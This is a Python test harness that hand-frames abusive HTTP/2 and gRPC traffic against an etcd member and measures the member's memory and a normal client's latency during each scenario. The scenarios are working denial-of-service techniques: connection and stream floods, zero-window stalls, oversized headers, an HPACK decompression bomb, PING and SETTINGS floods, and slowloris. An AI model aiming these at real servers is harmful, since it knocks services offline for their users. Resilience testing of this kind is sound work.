#!/usr/bin/env python3
"""Abusive clients against an etcd v3 member, while a well-behaved client puts and gets.

   abuse.py populate ADDR --mib M          fill the store with M MiB of 64 KiB values
   abuse.py run SCENARIO ADDR --pid PID    run one abuse, print one JSON line

During a scenario a well-behaved gRPC client does small puts and ranges back to back and
records their latencies, and the member's VmRSS is sampled from /proc/PID/status. The JSON line
says what the server did to the abuser ("outcome": the limit hit), the RSS before and at peak,
the well-behaved client's p50/p99 and failures during the abuse, and whether it is served after.

Abusive HTTP/2 is hand-framed here (no h2 package): the point is to send what a real client
library would refuse to send.
"""
import argparse
import json
import os
import resource
import select
import socket
import struct
import sys
import threading
import time

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "lib"))
import rawproto  # noqa: E402

import grpc  # noqa: E402

VALUE_BYTES = 64 << 10

# ---- HTTP/2 framing ---------------------------------------------------------------------------
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 7, 8, 9
END_STREAM, END_HEADERS, ACK = 0x1, 0x4, 0x1
SETTINGS_HEADER_TABLE_SIZE, SETTINGS_INITIAL_WINDOW_SIZE = 1, 4
ERROR_NAMES = {0: "NO_ERROR", 1: "PROTOCOL_ERROR", 2: "INTERNAL_ERROR", 3: "FLOW_CONTROL_ERROR",
               6: "FRAME_SIZE_ERROR", 7: "REFUSED_STREAM", 8: "CANCEL", 9: "COMPRESSION_ERROR",
               11: "ENHANCE_YOUR_CALM"}


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def settings_frame(**values):
    ids = {"initial_window": SETTINGS_INITIAL_WINDOW_SIZE, "header_table": SETTINGS_HEADER_TABLE_SIZE}
    return frame(SETTINGS, 0, 0, b"".join(struct.pack(">HI", ids[k], v) for k, v in values.items()))


def hpack_int(value, prefix_bits, first):
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes([first | value])
    out = bytearray([first | limit])
    value -= limit
    while value >= 128:
        out.append((value & 0x7F) | 0x80)
        value >>= 7
    out.append(value)
    return bytes(out)


def hpack_literal(name, value, indexed=False):
    """A literal header field with a new name: never added to the table unless `indexed`."""
    name, value = name.encode(), value if isinstance(value, bytes) else value.encode()
    return (b"\x40" if indexed else b"\x00") + hpack_int(len(name), 7, 0) + name + hpack_int(len(value), 7, 0) + value


def grpc_request_headers(path):
    return b"".join(hpack_literal(n, v) for n, v in [
        (":method", "POST"), (":scheme", "http"), (":path", path), (":authority", "abuse"),
        ("content-type", "application/grpc"), ("te", "trailers")])


def grpc_message(payload):
    return b"\x00" + struct.pack(">I", len(payload)) + payload


def range_all_request():
    # key "\0", range_end "\0": every key; limit 0.
    return rawproto.field_bytes(1, b"\x00") + rawproto.field_bytes(2, b"\x00")


def watch_all_history_request():
    create = rawproto.field_bytes(1, b"\x00") + rawproto.field_bytes(2, b"\x00") + rawproto.field_varint(3, 1)
    return rawproto.field_bytes(1, create)


class H2Connection:
    """A raw h2c connection: writes what it is told, reads frames only when asked."""

    def __init__(self, address, **settings):
        self.sock = socket.create_connection(address, timeout=10)
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.sock.sendall(PREFACE + settings_frame(**settings))
        self.next_stream = 1
        self.pending = b""

    def open_stream(self, path, body=None, end_stream=True):
        stream = self.next_stream
        self.next_stream += 2
        out = frame(HEADERS, END_HEADERS | (0 if body is not None or not end_stream else END_STREAM), stream,
                    grpc_request_headers(path))
        if body is not None:
            out += frame(DATA, END_STREAM if end_stream else 0, stream, grpc_message(body))
        self.send(out)
        return stream

    def send(self, data):
        self.sock.sendall(data)

    def try_send(self, data, seconds):
        """Sends what the server takes within `seconds`; False if it stopped taking bytes."""
        self.sock.settimeout(seconds)
        try:
            self.sock.sendall(data)
            return True
        except (socket.timeout, BlockingIOError):
            return False
        except OSError:
            return False
        finally:
            self.sock.settimeout(10)

    def read_frames(self, seconds):
        """Frames that arrive within `seconds`, as (type, flags, stream, payload); and whether
        the server closed the connection."""
        deadline, frames, closed = time.time() + seconds, [], False
        while time.time() < deadline:
            ready, _, _ = select.select([self.sock], [], [], max(0, deadline - time.time()))
            if not ready:
                break
            try:
                chunk = self.sock.recv(1 << 20)
            except OSError:
                closed = True
                break
            if not chunk:
                closed = True
                break
            self.pending += chunk
            while len(self.pending) >= 9:
                length = int.from_bytes(self.pending[:3], "big")
                if len(self.pending) < 9 + length:
                    break
                kind, flags = self.pending[3], self.pending[4]
                stream = int.from_bytes(self.pending[5:9], "big") & 0x7FFFFFFF
                frames.append((kind, flags, stream, self.pending[9:9 + length]))
                self.pending = self.pending[9 + length:]
        return frames, closed

    def close(self):
        try:
            self.sock.close()
        except OSError:
            pass


def describe(frames, closed):
    """What the server did: its GOAWAY (code, debug text), RST_STREAM codes, and a close."""
    parts, resets = [], {}
    for kind, _, _, payload in frames:
        if kind == GOAWAY:
            code = int.from_bytes(payload[4:8], "big")
            debug = payload[8:].decode(errors="replace")
            parts.append("GOAWAY %s%s" % (ERROR_NAMES.get(code, code), " %r" % debug if debug else ""))
        elif kind == RST_STREAM:
            name = ERROR_NAMES.get(int.from_bytes(payload[:4], "big"), "?")
            resets[name] = resets.get(name, 0) + 1
    parts += ["%d RST_STREAM %s" % (n, name) for name, n in sorted(resets.items())]
    if closed:
        parts.append("connection closed")
    return ", ".join(parts) if parts else "nothing"


# ---- The well-behaved client and the RSS sampler ---------------------------------------------
def unary(channel, method):
    return channel.unary_unary(method, request_serializer=None, response_deserializer=None)


class WellBehavedClient(threading.Thread):
    """Small puts and serializable-free ranges of one key, back to back, each bounded by 5 s."""

    def __init__(self, address):
        super().__init__(daemon=True)
        self.channel = grpc.insecure_channel("%s:%d" % address)
        self.put = unary(self.channel, "/etcdserverpb.KV/Put")
        self.range = unary(self.channel, "/etcdserverpb.KV/Range")
        self.latencies, self.failures = [], 0
        self.running = threading.Event()
        self.stopped = threading.Event()

    def one_round(self, index):
        self.put(rawproto.field_bytes(1, b"probe") + rawproto.field_bytes(2, b"v%d" % index), timeout=5)
        self.range(rawproto.field_bytes(1, b"probe"), timeout=5)

    def run(self):
        index = 0
        while not self.stopped.is_set():
            if not self.running.is_set():
                time.sleep(0.01)
                continue
            start = time.perf_counter()
            try:
                self.one_round(index)
                self.latencies.append(time.perf_counter() - start)
            except grpc.RpcError:
                self.failures += 1
                time.sleep(0.05)
            index += 1
            time.sleep(0.01)

    def served(self):
        """Whether a fresh put and range succeed now (after the abuse)."""
        try:
            self.one_round(-1)
            return True
        except grpc.RpcError:
            return False

    def percentile(self, fraction):
        if not self.latencies:
            return None
        ordered = sorted(self.latencies)
        return round(ordered[min(len(ordered) - 1, int(fraction * len(ordered)))] * 1000, 2)


def rss_kib(pid, field="VmRSS"):
    """VmRSS counts the store's pages the member has mapped (LMDB reads through mmap) beside
    its heap; RssAnon is the heap alone."""
    with open("/proc/%d/status" % pid) as status:
        for line in status:
            if line.startswith(field + ":"):
                return int(line.split()[1])
    return 0


class RSSSampler(threading.Thread):
    def __init__(self, pid):
        super().__init__(daemon=True)
        self.pid, self.peak, self.anon_peak = pid, rss_kib(pid), rss_kib(pid, "RssAnon")
        self.stopped = threading.Event()

    def run(self):
        while not self.stopped.is_set():
            try:
                self.peak = max(self.peak, rss_kib(self.pid))
                self.anon_peak = max(self.anon_peak, rss_kib(self.pid, "RssAnon"))
            except OSError:
                return
            time.sleep(0.05)


# ---- Scenarios --------------------------------------------------------------------------------
# Each takes (address, options) and runs the abuse for about options.seconds, returning the
# outcome: what the server did to the abuser.

def raise_fd_limit(wanted):
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    if soft < wanted:
        resource.setrlimit(resource.RLIMIT_NOFILE, (min(wanted, hard), hard))
    return resource.getrlimit(resource.RLIMIT_NOFILE)[0]


def idle_connections(address, options):
    """N connections that send the HTTP/2 preface and SETTINGS, then nothing."""
    limit = raise_fd_limit(options.connections + 100)
    count = min(options.connections, limit - 100)
    connections, refused = [], 0
    for _ in range(count):
        try:
            sock = socket.create_connection(address, timeout=5)
            sock.sendall(PREFACE + settings_frame())
            connections.append(sock)
        except OSError:
            refused += 1
    time.sleep(options.seconds)
    closed = 0
    for sock in connections:
        sock.setblocking(False)
        try:
            while True:
                chunk = sock.recv(65536)
                if not chunk:
                    closed += 1
                    break
        except BlockingIOError:
            pass
        except OSError:
            closed += 1
        sock.close()
    return "%d opened, %d refused, %d closed by the server after %ds" % (len(connections), refused, closed, options.seconds)


def never_read(address, options):
    """Streams whose responses are big (Range of every key; Watch of all history) on a
    connection that grants no window and never reads the socket."""
    conn = H2Connection(address, initial_window=0)
    for _ in range(options.streams):
        conn.open_stream("/etcdserverpb.KV/Range", range_all_request())
        conn.open_stream("/etcdserverpb.Watch/Watch", watch_all_history_request(), end_stream=False)
    time.sleep(options.seconds)
    frames, closed = conn.read_frames(1)
    conn.close()
    data = sum(len(p) for k, _, _, p in frames if k == DATA)
    return "%d Range + %d Watch streams with window 0: %d DATA bytes sent, %s" % (
        options.streams, options.streams, data, describe(frames, closed))


def stream_flood(address, options):
    """Many streams at once on one connection: Watch calls that send headers and nothing else."""
    conn = H2Connection(address)
    frames, closed = conn.read_frames(0.5)
    advertised = "?"
    for kind, flags, _, payload in frames:
        if kind == SETTINGS and not flags & ACK:
            for i in range(0, len(payload), 6):
                ident, value = struct.unpack(">HI", payload[i:i + 6])
                if ident == 3:
                    advertised = value
    conn.send(frame(SETTINGS, ACK, 0))
    headers = grpc_request_headers("/etcdserverpb.Watch/Watch")
    sent, batch = 0, []
    deadline = time.time() + options.seconds
    while sent < options.streams and time.time() < deadline:
        batch.append(frame(HEADERS, END_HEADERS, conn.next_stream, headers))
        conn.next_stream += 2
        sent += 1
        if len(batch) == 500:
            if not conn.try_send(b"".join(batch), 5):
                break
            batch = []
            more, closed = conn.read_frames(0)
            frames += more
            if closed:
                break
    if batch and not closed:
        conn.try_send(b"".join(batch), 5)
    time.sleep(max(0, deadline - time.time()))
    more, closed = conn.read_frames(1)
    frames += more
    conn.close()
    return "advertised MAX_CONCURRENT_STREAMS %s; opened %d: %s" % (advertised, sent, describe(frames, closed))


def huge_header(address, options):
    """A request whose header value is options.header_mib MiB, in HEADERS + CONTINUATIONs; again
    on a new connection whenever the server closes one, until the time is up."""
    block = grpc_request_headers("/etcdserverpb.KV/Range") + hpack_literal("x-huge", b"a" * (options.header_mib << 20))
    chunks = [block[i:i + 16384] for i in range(0, len(block), 16384)]
    out = frame(HEADERS, END_STREAM if len(chunks) > 1 else END_STREAM | END_HEADERS, 1, chunks[0])
    for i, chunk in enumerate(chunks[1:], 1):
        out += frame(CONTINUATION, END_HEADERS if i == len(chunks) - 1 else 0, 1, chunk)
    outcomes, deadline = {}, time.time() + options.seconds
    while time.time() < deadline:
        conn = H2Connection(address)
        conn.try_send(out, 2)
        frames, closed = conn.read_frames(min(2, max(0.1, deadline - time.time())))
        conn.close()
        outcome = describe(frames, closed)
        outcomes[outcome] = outcomes.get(outcome, 0) + 1
    return "%d MiB header value in %d frames: %s" % (
        options.header_mib, len(chunks), "; ".join("%d× %s" % (n, o) for o, n in outcomes.items()))


def hpack_bomb(address, options):
    """Headers that decode to far more than they cost on the wire: one 4 KiB entry in the
    HPACK dynamic table, then header blocks of 1-byte references to it, on many streams."""
    entry = hpack_literal("x-bomb", b"b" * 4000, indexed=True)
    base = grpc_request_headers("/etcdserverpb.KV/Range")
    reference = bytes([0x80 | 62])
    frames, closed, streams, fresh = [], True, 0, False
    deadline = time.time() + options.seconds
    while time.time() < deadline and streams < options.streams:
        if closed:
            conn, closed, fresh = H2Connection(address), False, True
        stream = conn.next_stream
        conn.next_stream += 2
        first = (entry if fresh else b"") + base
        fresh = False
        payload = first + reference * (16384 - len(first))
        out = frame(HEADERS, 0, stream, payload)
        # Eight CONTINUATIONs: what nghttp2 allows a header block since CVE-2024-28182.
        for i in range(8):
            out += frame(CONTINUATION, END_HEADERS if i == 7 else 0, stream, reference * 16384)
        streams += 1
        if not conn.try_send(out, 5):
            closed = True
            continue
        more, closed = conn.read_frames(0.05)
        frames += more
    more, closed2 = conn.read_frames(1)
    frames += more
    conn.close()
    decoded = 9 * 16384 * 4038 // (1 << 20)
    return "%d streams, each ~%d MiB of decoded headers from 144 KiB: %s" % (streams, decoded, describe(frames, closed or closed2))


def ping_flood(address, options):
    return control_flood(address, options, frame(PING, 0, 0, b"12345678"), "PING")


def settings_flood(address, options):
    return control_flood(address, options, frame(SETTINGS, 0, 0, struct.pack(">HI", SETTINGS_INITIAL_WINDOW_SIZE, 65535)), "SETTINGS")


def control_flood(address, options, one, name):
    """Frames that each ask for an acknowledgement, sent without reading any; again on a new
    connection whenever the server closes one, until the time is up."""
    burst = one * 10000
    sent, acks, connections, outcomes = 0, 0, 0, {}
    deadline = time.time() + options.seconds
    while time.time() < deadline:
        conn = H2Connection(address)
        connections += 1
        while time.time() < deadline and sent < options.frames * connections:
            if not conn.try_send(burst, 1):
                break
            sent += 10000
        frames, closed = conn.read_frames(1)
        conn.close()
        acks += sum(1 for k, f, _, _ in frames if k in (PING, SETTINGS) and f & ACK)
        outcome = describe([f for f in frames if f[0] not in (PING, SETTINGS)], closed)
        outcomes[outcome] = outcomes.get(outcome, 0) + 1
    return "%d %s frames written unread over %d connections, %d ACKs back: %s" % (
        sent, name, connections, acks, "; ".join("%d× %s" % (n, o) for o, n in outcomes.items()))


def slowloris(address, options):
    """HTTP/1.1 connections that send a request head one byte per second and never finish it."""
    raise_fd_limit(options.connections + 100)
    connections = []
    for _ in range(options.connections):
        try:
            sock = socket.create_connection(address, timeout=5)
            sock.sendall(b"GET /health HTTP/1.1\r\nHost: abuse\r\nX-Slow: ")
            connections.append(sock)
        except OSError:
            pass
    opened, closed = len(connections), 0
    deadline = time.time() + options.seconds
    while time.time() < deadline and connections:
        time.sleep(1)
        alive = []
        for sock in connections:
            try:
                sock.send(b"a")
                alive.append(sock)
            except OSError:
                closed += 1
                sock.close()
        connections = alive
    for sock in connections:
        sock.setblocking(False)
        try:
            if sock.recv(65536) == b"":
                closed += 1
        except BlockingIOError:
            pass
        except OSError:
            closed += 1
        sock.close()
    return "%d connections, one header byte a second for %ds: %d closed by the server" % (opened, options.seconds, closed)


def watch_all_history(address, options):
    """A watch from revision 1 over the whole store, read as fast as grpcio reads."""
    channel = grpc.insecure_channel("%s:%d" % address, options=[("grpc.max_receive_message_length", -1)])
    watch = channel.stream_stream("/etcdserverpb.Watch/Watch", request_serializer=None, response_deserializer=None)
    stop = threading.Event()

    def requests():
        yield watch_all_history_request()
        stop.wait(options.seconds + 60)

    events, received, outcome = 0, 0, "watched"
    call = watch(requests())
    deadline = time.time() + options.seconds + 60
    try:
        for response in call:
            received += len(response)
            for number, event in rawproto.fields(response):
                if number == 11:
                    kv = dict(rawproto.fields(event)).get(2, b"")
                    events += dict(rawproto.fields(kv)).get(1, b"").startswith(b"big/")
            if events >= options.keys or time.time() > deadline:
                break
    except grpc.RpcError as error:
        outcome = "ended with %s" % error.code().name
    stop.set()
    call.cancel()
    channel.close()
    return "%s: %d of %d events, %d MiB received" % (outcome, events, options.keys, received >> 20)


def range_everything(address, options):
    """Ranges of every key with limit=0, one after another for options.seconds."""
    channel = grpc.insecure_channel("%s:%d" % address, options=[("grpc.max_receive_message_length", -1)])
    call = unary(channel, "/etcdserverpb.KV/Range")
    results, deadline = {}, time.time() + options.seconds
    while time.time() < deadline:
        try:
            response = call(range_all_request(), timeout=60)
            outcome = "answered %d MiB" % (len(response) >> 20)
        except grpc.RpcError as error:
            outcome = "%s %s" % (error.code().name, (error.details() or "")[:60])
        results[outcome] = results.get(outcome, 0) + 1
    channel.close()
    return ", ".join("%d× %s" % (n, o) for o, n in results.items())


SCENARIOS = {
    "idle": idle_connections, "never-read": never_read, "stream-flood": stream_flood,
    "huge-header": huge_header, "hpack-bomb": hpack_bomb, "ping-flood": ping_flood,
    "settings-flood": settings_flood, "slowloris": slowloris, "watch-history": watch_all_history,
    "range-all": range_everything,
}


def populate(address, mib):
    channel = grpc.insecure_channel("%s:%d" % address)
    put = unary(channel, "/etcdserverpb.KV/Put")
    value = b"v" * VALUE_BYTES
    count = (mib << 20) // VALUE_BYTES
    for i in range(count):
        put(rawproto.field_bytes(1, b"big/%08d" % i) + rawproto.field_bytes(2, value), timeout=30)
    channel.close()
    return count


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("command", choices=["populate", "run"])
    parser.add_argument("scenario_or_address")
    parser.add_argument("address", nargs="?")
    parser.add_argument("--pid", type=int)
    parser.add_argument("--mib", type=int, default=64, help="populate: store size")
    parser.add_argument("--keys", type=int, default=0, help="watch-history: events to expect")
    parser.add_argument("--seconds", type=int, default=5)
    parser.add_argument("--connections", type=int, default=1000)
    parser.add_argument("--streams", type=int, default=20000)
    parser.add_argument("--frames", type=int, default=200000)
    parser.add_argument("--header-mib", type=int, default=1)
    options = parser.parse_args()

    def parse(text):
        host, port = text.rsplit(":", 1)
        return host, int(port)

    if options.command == "populate":
        print(populate(parse(options.scenario_or_address), options.mib))
        return
    scenario, address = options.scenario_or_address, parse(options.address)
    client, sampler = WellBehavedClient(address), RSSSampler(options.pid)
    client.start()
    client.served()
    rss_before, anon_before = rss_kib(options.pid), rss_kib(options.pid, "RssAnon")
    sampler.start()
    client.running.set()
    try:
        outcome = SCENARIOS[scenario](address, options)
    except Exception as error:  # the abuser failing is an outcome too
        outcome = "abuser failed: %r" % error
    client.running.clear()
    time.sleep(0.2)
    served_after = client.served()
    sampler.stopped.set()
    sampler.join()
    client.stopped.set()
    print(json.dumps({
        "scenario": scenario, "outcome": outcome, "rss_before_mib": round(rss_before / 1024, 1),
        "rss_peak_mib": round(sampler.peak / 1024, 1), "anon_before_mib": round(anon_before / 1024, 1),
        "anon_peak_mib": round(sampler.anon_peak / 1024, 1), "rss_after_mib": round(rss_kib(options.pid) / 1024, 1),
        "p50_ms": client.percentile(0.5), "p99_ms": client.percentile(0.99), "rounds": len(client.latencies),
        "failures": client.failures, "served_after": served_after}))


if __name__ == "__main__":
    main()
